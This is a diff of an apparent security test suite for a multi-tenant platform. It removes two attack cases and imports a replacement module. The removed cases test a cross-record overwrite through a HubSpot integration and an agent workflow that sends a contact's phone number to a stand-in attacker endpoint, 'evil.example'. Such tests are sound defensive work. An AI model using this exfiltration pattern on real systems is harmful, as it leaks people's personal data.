@@ -1,8 +1,6 @@
 import type { JsonObject } from '@tildebase/nouns'
-import { HistoryImporter } from '../../../packages/tenant/src/services/bulk/history.ts'
 import { consentGrant } from '../../../packages/tenant/src/services/identity/people.ts'
 import { putRole, rightsOf } from '../../../packages/tenant/src/services/identity/roles.ts'
-import { connect } from '../../../packages/tenant/src/services/integrations/verbs.ts'
 import { dropHook, putHook } from '../../../packages/tenant/src/services/scripts/stored.ts'
 import { readOperation } from '../../../packages/tenant/src/services/session.ts'
 import { renameTypeField, retypeTypeField } from '../../../packages/tenant/src/services/types/migrate-type.ts'
@@ -10,6 +8,7 @@ import { putType } from '../../../packages/tenant/src/services/types/schema.ts'
 import { redeliver } from '../../../packages/tenant/src/services/webhooks/records.ts'
 import type { Attack } from './attack.ts'
 import type { Goal } from './authors.ts'
+import { CONNECTED } from './connected.ts'
 import { EFFECTS } from './effects.ts'
 import { OUTSIDE } from './outside.ts'
 import { ENTITY_WAYS, storeEntity } from './ways.ts'
@@ -439,71 +438,6 @@ const guards: readonly Attack[] = [
   },
 ]
 
-/** A page of HubSpot's contacts, as the connector reads it. */
-const PAGE = JSON.stringify({
-  results: [
-    {
-      id: '1',
-      createdAt: '2020-01-01T00:00:00Z',
-      updatedAt: '2999-01-01T00:00:00Z',
-      properties: { firstname: TAKEN },
-      propertiesWithHistory: { firstname: [{ value: TAKEN, timestamp: '2020-01-01T00:00:00Z' }] },
-    },
-  ],
-})
-
-const integrations: readonly Attack[] = [
-  {
-    kind: 'integration',
-    name: 'records that overwrite a type of others',
-    goal: 'write Contact',
-    ways: ['connected', 'connected by an administrator, then changed', 'started'],
-    async run(world, author, way) {
-      const { tenant, hidden } = world
-      world.answers.text = PAGE
-      const value = { type: 'Contact', id: hidden, source: 'hubspot:contacts:1', verb: 'update' }
-      const timestamp = new Date(tenant.engine.nextTime()).toISOString()
-      const rows = [{ row: 0, size: 1, value: { ...value, timestamp, data: {} } }]
-      tenant.write(OPERATOR, (write) => new HistoryImporter().take(write, rows))
-      const contacts = { contacts: { type: 'Contact', fields: { firstname: 'name' } } }
-      const deals = { deals: { type: 'Deal', fields: { firstname: 'name' } } }
-      const mapping = way === 'connected by an administrator, then changed' ? deals : contacts
-      const { $id: id } = world.run('Integration', 'create', undefined, { name: 'x', provider: 'hubspot', mapping })
-      const checked = { token: 'token', address: 'https://api.hubapi.com' }
-      const link = (grant: Grant) => tenant.write(grant, (write) => connect(write, id, {}, checked))
-      if (way === 'connected') world.attempt(() => link(author))
-      else link(OPERATOR)
-      if (mapping === deals) world.attempt(() => world.run('Integration', 'update', id, { mapping: contacts }, author))
-      world.attempt(() => world.run('Integration', 'sync', id, {}, author))
-      await world.advance(1_000)
-    },
-  },
-]
-
-const agents: readonly Attack[] = [
-  {
-    kind: 'agent',
-    name: 'a question that carries a hidden value to an endpoint',
-    goal: 'read Contact',
-    ways: ['created', 'redirected'],
-    async run(world, author, way) {
-      const endpoint = 'https://evil.example/ask'
-      const { run } = world
-      const agent =
-        way === 'created'
-          ? world.attempt(() => run('Agent', 'create', undefined, { name: 'a', endpoint }, author))
-          : run('Agent', 'create', undefined, { name: 'a', endpoint: 'https://agent.example/ask' })
-      if (agent === null) return
-      if (way === 'redirected') world.attempt(() => run('Agent', 'update', agent.$id, { endpoint }, author))
-      const args = { message: '$event.data.phone' }
-      const steps = [{ verb: 'ask', type: 'Agent', id: agent.$id, args }]
-      const workflow = { name: 'w', triggerEvent: 'Contact.updated', steps }
-      const made = world.attempt(() => run('Workflow', 'create', undefined, workflow, author))
-      if (made !== null) world.attempt(() => run('Workflow', 'activate', made.$id, {}, author))
-    },
-  },
-]
-
 export const ATTACKS: readonly Attack[] = [
   ...hooks,
   ...workflows,
@@ -513,8 +447,7 @@ export const ATTACKS: readonly Attack[] = [
   ...rows,
   ...migrations,
   ...guards,
-  ...integrations,
   ...EFFECTS,
   ...OUTSIDE,
-  ...agents,
+  ...CONNECTED,
 ]
